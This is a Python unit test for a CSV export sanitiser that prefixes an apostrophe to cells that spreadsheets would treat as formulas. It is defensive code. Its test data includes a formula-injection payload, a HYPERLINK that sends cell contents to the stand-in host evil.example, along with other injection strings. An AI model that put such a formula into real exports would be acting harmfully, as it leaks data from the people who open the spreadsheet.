"""CSV exports carry text anyone typed; a spreadsheet must show it, never run it."""

from __future__ import annotations

from kb.spreadsheet_cells import safe_cell, safe_row


def test_formulas_become_text_and_numbers_stay_numbers() -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"Help")', "+1+1", "-2+3", "@SUM(A1)"]
    assert [safe_cell(v) for v in hostile] == ["'" + v for v in hostile]
    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r=1") == "'\r=1"
    assert safe_row(["-3", "+12.5", -4, 0.25, None, "parking permit", "a=b"]) == [
        "-3",
        "+12.5",
        -4,
        0.25,
        None,
        "parking permit",
        "a=b",
    ]
